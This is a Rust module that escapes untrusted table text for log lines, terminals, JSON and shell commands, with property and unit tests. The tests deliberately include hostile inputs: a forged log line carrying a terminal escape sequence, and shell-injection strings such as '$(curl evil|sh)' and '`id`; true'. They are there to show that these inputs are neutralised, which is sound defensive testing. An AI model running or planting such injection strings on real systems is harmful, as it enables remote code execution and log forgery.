//! Escapes text from rows for log lines and terminals.
//!
//! Every writer of the table chooses ids, types, keys and, through a handler, errors. Printed
//! unescaped, such texts can start a line that looks like one of the program's own, or send control
//! sequences to a terminal.
//!
//! ```
//! use outbox::escape::{Escaped, is_unsafe};
//!
//! let forged = "y\n2026-11-17T04:00:00Z ERROR signed in\u{1b}]0;owned\u{7}";
//! let shown = Escaped(forged).to_string();
//! assert_eq!(shown, r"y\n2026-11-17T04:00:00Z ERROR signed in\u{1b}]0;owned\u{7}");
//! assert!(!shown.contains(is_unsafe));
//! ```

use std::borrow::Cow;
use std::fmt::{self, Write as _};

/// Whether a character ends a line, controls a terminal, or changes the direction of the
/// surrounding text: C0 and C1 controls (including CSI, U+009B), line and paragraph separators,
/// bidirectional controls.
pub fn is_unsafe(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Shows a value on one line: unsafe characters as escapes such as `\n` and `\u{1b}`, all others
/// unchanged.
#[derive(Clone, Copy, Debug)]
pub struct Escaped<T>(pub T);

impl<T: fmt::Display> fmt::Display for Escaped<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(Escaping(f), "{}", self.0)
    }
}

/// Escapes each piece that is written to it.
struct Escaping<'a, 'f>(&'a mut fmt::Formatter<'f>);

impl fmt::Write for Escaping<'_, '_> {
    fn write_str(&mut self, text: &str) -> fmt::Result {
        write_escaped(self.0, text, is_unsafe)
    }
}

/// Escapes a text of several lines: line feeds and tabs stay.
pub fn escape_lines(text: &str) -> Cow<'_, str> {
    let is_unsafe = |c| is_unsafe(c) && !matches!(c, '\n' | '\t');
    if !text.contains(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 16);
    let _ = write_escaped(&mut escaped, text, is_unsafe);
    Cow::Owned(escaped)
}

/// Escapes JSON text, whose strings may contain unsafe characters: they become equivalent escapes
/// such as `\u009b`. Line feeds and tabs between values stay.
pub fn escape_json(json: &str) -> Cow<'_, str> {
    let is_unsafe = |c| is_unsafe(c) && !matches!(c, '\n' | '\r' | '\t');
    if !json.contains(is_unsafe) {
        return Cow::Borrowed(json);
    }
    let mut escaped = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_unsafe(c) {
            let _ = write!(escaped, "\\u{:04x}", u32::from(c));
        } else {
            escaped.push(c);
        }
    }
    Cow::Owned(escaped)
}

/// A word for a POSIX shell: unquoted if that is safe, otherwise in single quotes. Unsafe
/// characters are escaped within `$'…'`, which bash, zsh and ksh read as the same text.
pub fn shell_word(text: &str) -> Cow<'_, str> {
    let is_plain =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '+' | ',');
    if text.contains(is_unsafe) {
        let mut word = "$'".to_owned();
        for c in text.chars() {
            match c {
                '\'' | '\\' => word.extend(['\\', c]),
                // The bytes of the character, which are the same in every locale.
                c if is_unsafe(c) => {
                    for byte in c.encode_utf8(&mut [0; 4]).bytes() {
                        let _ = write!(word, "\\x{byte:02x}");
                    }
                }
                c => word.push(c),
            }
        }
        word.push('\'');
        return Cow::Owned(word);
    }
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

fn write_escaped(to: &mut dyn fmt::Write, text: &str, is_unsafe: impl Fn(char) -> bool) -> fmt::Result {
    let mut rest = text;
    while let Some(at) = rest.find(&is_unsafe) {
        let (plain, tail) = rest.split_at(at);
        to.write_str(plain)?;
        let mut chars = tail.chars();
        match chars.next() {
            Some('\n') => to.write_str("\\n")?,
            Some('\r') => to.write_str("\\r")?,
            Some('\t') => to.write_str("\\t")?,
            Some(c) => write!(to, "\\u{{{:x}}}", u32::from(c))?,
            None => {}
        }
        rest = chars.as_str();
    }
    to.write_str(rest)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// Text that a hostile writer could choose.
    fn hostile() -> impl Strategy<Value = String> {
        let unsafe_char = prop_oneof![
            0x00_u32..0x20,
            0x7f_u32..0xa0,
            Just(0x61c),
            0x200e_u32..0x2010,
            0x2028_u32..0x202f,
            0x2066_u32..0x206a,
        ];
        let character = prop_oneof![
            3 => unsafe_char.prop_map(|code| char::from_u32(code).expect("a character")),
            2 => any::<char>(),
            2 => prop::sample::select(vec!['\'', '"', '\\', '$', '`', '(', ' ', 'a', '-', '|']),
        ];
        prop::collection::vec(character, 0..24).prop_map(|chars| chars.into_iter().collect())
    }

    proptest! {
        #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn escaped_text_is_one_safe_line(text in hostile()) {
            let shown = Escaped(&text).to_string();
            prop_assert!(!shown.contains(is_unsafe), "{shown:?}");
            prop_assert_eq!(shown.lines().count().max(1), 1);
            prop_assert!(!escape_lines(&text).replace(['\n', '\t'], "").contains(is_unsafe));
        }

        #[test]
        fn escaped_json_has_the_same_value(text in hostile()) {
            let json = serde_json::to_string(&text).unwrap();
            let escaped = escape_json(&json);
            prop_assert!(!escaped.contains(is_unsafe), "{escaped:?}");
            prop_assert_eq!(serde_json::from_str::<String>(&escaped).unwrap(), text);
        }

        #[test]
        fn a_word_for_a_shell_is_one_safe_line(text in hostile()) {
            let word = shell_word(&text);
            prop_assert!(!word.contains(is_unsafe), "{word:?}");
        }
    }

    #[test]
    fn plain_text_stays_as_it_is() {
        for text in ["", "order.placed", "Zürich ∑ 東京 👩‍👩‍👧", r"a\b"] {
            assert_eq!(Escaped(text).to_string(), text);
        }
        assert_eq!(escape_lines("two\nlines\t\u{1b}[2J"), "two\nlines\t\\u{1b}[2J");
    }

    #[test]
    fn a_shell_reads_the_word_as_the_same_text() {
        let Ok(version) = std::process::Command::new("bash").arg("--version").output() else { return };
        assert!(version.status.success());
        for text in
            ["01JD", "$(curl evil|sh)", "it's", "", "-rf", "a\nb\u{9b}c'\\", "`id`; true", "é\u{202e}x"]
        {
            let script = format!("printf %s {}", shell_word(text));
            let output = std::process::Command::new("bash").args(["-c", &script]).output().unwrap();
            assert_eq!(String::from_utf8(output.stdout).unwrap(), text, "{script}");
        }
        assert_eq!(shell_word("01JD3V7Q0Z6W4T0M1S2K8N5R9X"), "01JD3V7Q0Z6W4T0M1S2K8N5R9X");
    }
}
